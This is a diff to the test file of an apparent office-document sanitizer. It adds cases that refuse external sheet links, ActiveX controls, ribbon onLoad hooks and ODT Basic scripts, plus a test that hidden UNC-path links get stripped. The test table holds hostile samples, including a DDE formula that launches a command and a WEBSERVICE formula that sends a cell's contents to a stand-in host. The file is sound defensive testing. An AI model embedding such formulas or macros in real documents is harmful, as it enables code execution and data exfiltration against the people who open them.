@@ -88,6 +88,16 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "formula that runs": (cell("=cmd|'/C calc'!A0"), "office_dde"),
     "formula that asks": (cell('=WEBSERVICE("http://example.org/"&A1)'), "office_dde"),
     "formula that draws from outside": (cell('=_xlfn.IMAGE("http://e.org/")'), "office_dde"),
+    "sheet on another machine": (cell("='http://e.org/[b.xlsx]S'!A1"), "office_dde"),
+    "control": (
+        hostile.docx({"word/activeX/activeX1.xml": "<ocx/>"}),
+        "office_macros",
+    ),
+    "ribbon": (hostile.docx({"customUI/customUI.xml": "<customUI onLoad='x'/>"}), "office_macros"),
+    "open script": (
+        hostile.odt("<a xmlns:s='urn:s'><s:script s:language='Basic'>Sub x</s:script></a>"),
+        "office_macros",
+    ),
     "connections": (hostile.docx({"xl/connections.xml": "<connections/>"}), "office_dde"),
     "old macros": (hostile.docx({"xl/macrosheets/s.xml": "<macrosheet/>"}), "office_macros"),
     "open formula that runs": (table('of:=DDE("soffice";"a";"b")'), "office_dde"),
@@ -120,6 +130,16 @@ def test_ordinary_documents_pass(tmp_path: Path) -> None:
     facts, content = written(saved(book), tmp_path)
     assert (facts.kind, facts.removed) == ("xlsx", ["autoría"])
     assert written(content, tmp_path)[1] == content
+
+
+def test_an_address_that_does_not_say_that_it_leaves_is_sent_nowhere(tmp_path: Path) -> None:
+    hidden = hostile.relation("image", "\\\\\\\\servidor\\a.png").replace(
+        'TargetMode="External"', ""
+    )
+    facts, content = written(hostile.docx(rels=hidden), tmp_path)
+    assert "vínculos externos" in facts.removed
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        assert b"servidor" not in package.read("word/_rels/document.xml.rels")
 
 
 def test_a_drawn_shape_fetches_nothing(tmp_path: Path) -> None:
